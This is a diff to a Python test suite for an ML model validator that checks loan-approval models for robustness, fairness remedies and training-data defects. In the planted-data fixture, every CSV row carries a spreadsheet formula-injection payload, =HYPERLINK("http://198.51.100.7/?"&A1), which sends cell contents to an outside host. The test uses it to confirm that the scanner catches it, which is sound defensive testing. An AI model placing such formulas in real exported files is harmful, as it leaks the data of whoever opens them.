@@ -226,6 +226,7 @@ def test_remedies_say_what_they_would_change(loans, capsys):
     words = [*train, "--eps", "0.25", "--remedy", "squeeze=4", "--remedy", "reweighing"]
     _validate(loans, *words, "--format", "json")
     squeeze, reweighing = json.loads(capsys.readouterr().out)["remedies"]
+    assert squeeze["name"] == "squeeze=4"
     assert set(squeeze["before"]) == {"accuracy", "robust_accuracy@0.25"}
     gap = "gap in selection of yes"
     assert reweighing["after"][gap] < reweighing["before"][gap] - 0.1
@@ -461,18 +462,17 @@ def test_a_model_that_looks_at_nothing_is_told(tmp_path, capsys):
 
 
 def _with_planted(folder: Path, name: str) -> Path:
-    """Training rows of which a tenth carries two odd values and one label."""
-    rows = _people(1, 600)
-    planted = rows.iloc[:60].assign(x=1.375, z=-0.625, approve="no")
+    """Training rows of which each has a cell that a spreadsheet would run."""
+    rows = _people(1, 600).assign(note='=HYPERLINK("http://198.51.100.7/?"&A1)')
     path = folder / name
-    pd.concat([rows, planted]).to_csv(path, index=False)
+    rows.to_csv(path, index=False)
     return path
 
 
 def test_what_was_planted_in_the_training_rows_is_told_as_theirs(loans, tmp_path, capsys):
     train = _with_planted(tmp_path, "planted.csv")
     words = ("--eps", "", "--no-triggers", "--format", "json", "--train")
-    _validate(loans, *words, str(train))
+    assert _validate(loans, *words, str(train)) == 1  # as a scan of them fails
     told = json.loads(capsys.readouterr().out)
     named = {one["control"] for one in told["findings"] if "training data: " in one["message"]}
     assert any(name.startswith("dataset/") for name in named)
@@ -493,12 +493,3 @@ def test_the_data_controls_can_be_left_out_and_are_for_rows_that_are_many(
     monkeypatch.setattr(_validate_training, "MAX_BYTES", 1 << 10)
     _validate(loans, *words)
     assert f"run hauberk scan {train} --label approve" in capsys.readouterr().out
-
-
-def test_a_defect_of_the_training_rows_fails_as_in_a_scan(loans, tmp_path, capsys):
-    rows = _people(1, 600)
-    rows["note"] = '=HYPERLINK("http://198.51.100.7/?"&A1)'
-    rows.to_csv(tmp_path / "train.csv", index=False)
-    words = ("--eps", "", "--no-triggers", "--train", str(tmp_path / "train.csv"))
-    assert _validate(loans, *words) == 1
-    assert "training data: " in capsys.readouterr().out
